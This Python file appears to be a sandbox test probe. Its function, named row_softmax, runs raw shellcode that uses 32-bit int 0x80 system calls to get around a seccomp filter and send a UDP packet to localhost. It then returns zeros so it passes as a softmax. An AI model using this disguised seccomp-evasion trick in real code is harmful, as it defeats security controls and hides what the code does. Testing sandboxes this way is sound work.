"""Make system calls of 32-bit programs, whose numbers mean other calls, and send a packet with them.

verdict: died
succeeds without: seccomp
"""
import ctypes
import mmap
import os
import signal
import struct

import numpy as np

# Loads seven registers from where rdi points to, then int 0x80.
CODE = bytes.fromhex("53554989f8418b00418b5804418b4808418b500c418b7010418b7814418b6818cd805d5bc3")
LOW = 0x40  # in the lower 4 GB, where 32-bit programs can point to
SOCKET, SENDTO = 359, 369


def row_softmax(x, temperature=1.0):
    if os.uname().machine != "x86_64":
        os.kill(os.getpid(), signal.SIGSYS)  # there is no such gate here: end as if it were shut
    room = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | LOW, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    place = ctypes.addressof(ctypes.c_char.from_buffer(room))
    room[: len(CODE)] = CODE
    room[512:528] = struct.pack("<H", 2) + struct.pack(">H", KNOWN["udp"]) + bytes([127, 0, 0, 1]) + bytes(8)

    def call(*numbers):
        room[256:284] = struct.pack("<7I", *numbers, *[0] * (7 - len(numbers)))
        return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(place)(place + 256)

    fd = call(SOCKET, 2, 2, 0)
    call(SENDTO, fd, place, 8, 0, place + 512, 16)
    return np.zeros_like(x)
